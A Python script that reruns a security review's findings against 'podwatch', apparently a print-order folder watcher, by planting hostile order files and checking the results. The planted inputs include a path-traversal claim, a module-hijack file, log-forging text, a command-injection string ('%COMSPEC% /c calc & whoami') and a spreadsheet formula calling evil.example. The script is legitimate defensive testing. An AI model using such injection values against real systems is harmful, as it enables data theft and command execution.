"""The security and reliability review's repros (issue 13), run against a fresh folder: `python benchmarks/review_repros.py`.

Each repro drops what the review dropped, runs podwatch as a seller would (`python -m podwatch`, its
own process) and prints what came of it. Not part of the test suite: tests/test_hostile_orders.py,
test_outside_folder.py, test_resources.py and test_two_computers.py hold one test per finding.
"""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from PIL import Image

PYTHON = [sys.executable, "-P", "-m", "podwatch"]


def podwatch(root: Path, *args: str, host: str = "desk", cwd: Path | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PODWATCH_STATE_HOME": str(root.parent / f"state-{host}"), "PODWATCH_HOST": host}
    return subprocess.run([*PYTHON, *args], cwd=cwd or root.parent, env=env, capture_output=True, text=True,
                          timeout=600)


def fresh(base: Path, name: str) -> Path:
    root = base / name / "POD"
    subprocess.run([*PYTHON, "init", str(root)], check=True, capture_output=True)
    settings = root / "podwatch.toml"
    settings.write_text(settings.read_text().replace("stability_seconds = 5", "stability_seconds = 0"))
    return root


def sticker(root: Path, stem: str, order: dict, where: Path | None = None) -> None:
    Image.new("RGB", (1200, 1200), (40, 110, 190)).save((where or root / "inbox") / f"{stem}.png")
    ((where or root / "inbox") / f"{stem}.json").write_text(json.dumps({"product": "sticker", **order}))


def tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


def report(title: str, *lines: str) -> None:
    print(f"\n## {title}")
    for line in lines:
        print(f"   {line}")


def one_file_never_stops(base: Path) -> None:
    root = fresh(base, "one-file")
    inbox = root / "inbox"
    (inbox / "deep.json").write_text('{"order_id": "1", "product": "sticker", "x": ' + "[" * 100_000 + "]" * 100_000 + "}")
    (inbox / "half.json").write_text('{"order_id": "55\\ud83d", "product": "sticker", "personalization": '
                                     '{"name": "Luna \\ud83d"}, "customer": {"name": "Ana \\udc00"}}')
    Image.new("RGB", (1200, 1200)).save(inbox / "half.png")
    big = {"order_id": "big", "product": "sticker", "instructions": "x" * 3_200_000}
    sticker(root, "big", big)
    sticker(root, "nl", {"order_id": "1234\n2024-01-01 00:00:00.000 INFO    [9999] forged"})
    Image.new("RGB", (1200, 1200)).save(inbox / "a.png")
    (inbox / "twice.json").write_text(json.dumps({"order_id": "2", "product": "sticker", "files": ["a.png", "a.png"]}))
    sticker(root, "good", {"order_id": "3"})
    started = time.perf_counter()
    done = podwatch(root, "run", "--root", str(root), "--once")
    seconds = time.perf_counter() - started
    log = (root / ".podwatch" / "logs" / "podwatch.log").read_text()
    report("One file must never stop the service",
           f"run --once: exit {done.returncode} in {seconds:.1f} s; traceback printed: {'Traceback' in done.stderr}",
           f"failed/: {sorted(p.name for p in (root / 'failed').iterdir())}",
           f"review/: {sorted(p.name for p in (root / 'review').iterdir())}",
           f"claims left: {tree(root / '.podwatch' / 'claims')}; inbox left: {tree(inbox)}",
           "deep.json: " + (root / "failed/deep/deep.json.error.txt").read_text().splitlines()[2][:110],
           "big.json (3.2 MB): " + (root / "failed/big/big.json.error.txt").read_text().splitlines()[2][:110],
           "nl.json: " + (root / "failed/nl/nl.json.error.txt").read_text().splitlines()[2][:110],
           f"log lines starting with the forged date: {sum(line.startswith('2024-01-01') for line in log.splitlines())}")


def outside_folder(base: Path) -> None:
    root = fresh(base, "outside")
    away = base / "outside" / "elsewhere"
    away.mkdir()
    Image.new("RGB", (1200, 1200), (200, 0, 0)).save(away / "private.png")
    (away / "notes.txt").write_text("private")
    before = tree(away)
    inbox = root / "inbox"
    (inbox / "9.png").symlink_to(away / "private.png")
    (inbox / "9.json").write_text(json.dumps({"order_id": "9", "product": "sticker"}))
    (inbox / "linked").symlink_to(away, target_is_directory=True)
    claim = root / ".podwatch" / "claims" / "20240101-000000-x-abcdef"
    (claim / "files").mkdir(parents=True)
    (claim / "files" / "x.sh").write_text("echo owned\n")
    (claim / "claim.json").write_text(json.dumps({"origin": {"x.sh": "../../../tmp/x.sh"}, "state": "claiming"}))
    (root / "loguru.py").write_text(f"open({str(base / 'IMPORTED')!r}, 'w').write('x')\n")
    done = podwatch(root, "run", "--root", str(root), "--once", cwd=root)
    status = podwatch(root, "status", "--root", str(root), cwd=root)
    report("Nothing outside the folder is read, moved or run",
           f"run --once from inside ROOT: exit {done.returncode}; loguru.py in ROOT imported: {(base / 'IMPORTED').exists()}",
           f"outside folder unchanged: {tree(away) == before}; review/: {tree(root / 'review')}; archive/: {tree(root / 'archive')}",
           f"planted claim: /tmp/x.sh written: {Path('/tmp/x.sh').exists()}; set aside: {tree(root / '.podwatch' / 'damaged')}",
           *[line.strip()[:118] for line in status.stdout.splitlines() if "link" in line])


HOOK = """import json, os, pathlib, sys
env = {k: v for k, v in os.environ.items() if k.startswith("PODWATCH_")}
order = json.loads(pathlib.Path(env["PODWATCH_ORDER_FILE"]).read_text(encoding="utf-8"))
pathlib.Path(sys.argv[1]).write_text(json.dumps({"env": env, "note": len(order["order"]["instructions"])}))
"""


def hook_and_manifest(base: Path) -> None:
    root = fresh(base, "hook")
    script, record = base / "hook" / "hook.py", base / "hook" / "hook.json"
    script.write_text(HOOK)
    settings = root / "podwatch.toml"
    hook = f"hook = '\"{sys.executable}\" \"{script}\" \"{record}\"'"
    settings.write_text(settings.read_text().replace("[production]\n", f"[production]\n{hook}\n"))
    rule = root / "rules" / "sticker.toml"
    rule.write_text(rule.read_text().replace('policy = "always"', 'policy = "never"'))
    sticker(root, "a", {"order_id": '=HYPERLINK("http://evil.example/?"&A1,"x")', "variant": "@SUM(1+1)",
                        "personalization": {"name": "%COMSPEC% /c calc & whoami"}})
    done = podwatch(root, "run", "--root", str(root), "--once")
    env = json.loads(record.read_text())["env"]
    leaked = [k for k, v in env.items() if "calc" in v or "%" in v or "&" in v]
    sticker(root, "b", {"order_id": "long", "instructions": "Please make it lovely. " * 9000})
    podwatch(root, "run", "--root", str(root), "--once")  # instructions: it waits in review/ ...
    for proof in (root / "review").iterdir():
        proof.rename(root / "approved" / proof.name)  # ... and the seller approves it
    done = podwatch(root, "run", "--root", str(root), "--once")
    manifest = (root / "production" / "manifest.csv").read_text().splitlines()
    report("The hook and the manifest",
           f"buyer text in the hook's environment: {leaked or 'none'}; exit {done.returncode}",
           f"200 KB note (approved): hook exit {done.returncode}; it read {json.loads(record.read_text())['note']} "
           "characters of it from PODWATCH_ORDER_FILE",
           *[f"manifest: {line[:100]}" for line in manifest])


def resources(base: Path) -> None:
    root = fresh(base, "pixels")
    image = Image.new("L", (13000, 13000), 128)
    image.save(root / "inbox" / "huge.png", optimize=True)
    del image
    (root / "inbox" / "huge.json").write_text(json.dumps({"order_id": "huge", "product": "tshirt"}))
    size = (root / "inbox" / "huge.png").stat().st_size
    started = time.perf_counter()
    done = podwatch(root, "run", "--root", str(root), "--once")
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
    reason = (root / "failed/huge/huge.png.error.txt").read_text().splitlines()[2]
    report("Resources",
           f"13000 x 13000 PNG of {size / 1024:.0f} KB: exit {done.returncode} in {time.perf_counter() - started:.1f} s, "
           f"largest podwatch process so far {peak} MB",
           reason[:160])
    ledger = next((base / "pixels" / "state-desk").glob("*/ledger.sqlite3"))
    ledger.write_bytes(b"a sync client wrote over it" * 200)
    for extra in ledger.parent.glob("ledger.sqlite3-*"):
        extra.unlink()
    done = podwatch(root, "run", "--root", str(root), "--once")
    report("A corrupt ledger", f"exit {done.returncode}; said: {done.stderr.strip()[:200]}")
    ledger.rename(ledger.with_name("ledger.damaged.sqlite3"))
    shown = podwatch(root, "status", "--root", str(root)).stdout.splitlines()[:2]
    report("... moved aside as told", *shown)


def two_computers(base: Path) -> None:
    root = fresh(base, "two")
    settings = root / "podwatch.toml"
    settings.write_text(settings.read_text().replace("stale_seconds = 180", "stale_seconds = 5"))
    for n in range(4):
        sticker(root, f"o{n}", {"order_id": f"70{n}"})
    env = {**os.environ, "PODWATCH_STATE_HOME": str(base / "two" / "state-imac"), "PODWATCH_HOST": "shop-imac"}
    desktop = subprocess.Popen([*PYTHON, "run", "--root", str(root)], env=env, cwd=base, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while not list((root / "review").iterdir()) and time.monotonic() < deadline:
        time.sleep(0.1)
    laptop = podwatch(root, "run", "--root", str(root), "--once", host="laptop")
    said = next(line for line in laptop.stderr.splitlines() if line.startswith("podwatch:"))
    first = f"laptop while shop-imac runs: exit {laptop.returncode}: {said[:150]}"
    desktop.kill()
    desktop.wait()
    time.sleep(6)
    laptop = podwatch(root, "run", "--root", str(root), "--once", host="laptop")
    took = [line[:130] for line in laptop.stderr.splitlines() if "takes over" in line]
    report("Two computers, one folder", first, f"after shop-imac was killed and 6 s passed: exit {laptop.returncode}",
           *took, f"review/: {sorted(p.name for p in (root / 'review').iterdir())}")


def main() -> None:
    with tempfile.TemporaryDirectory() as folder:
        base = Path(folder)
        for repro in (one_file_never_stops, outside_folder, hook_and_manifest, resources, two_computers):
            (base / repro.__name__).mkdir()
            repro(base)
    print("\nNot repeated here (tests only): a full disk (tests/test_resources.py fakes ENOSPC) and a hanging "
          "decode past job_timeout_seconds (tests/test_resources.py).")


if __name__ == "__main__":
    main()
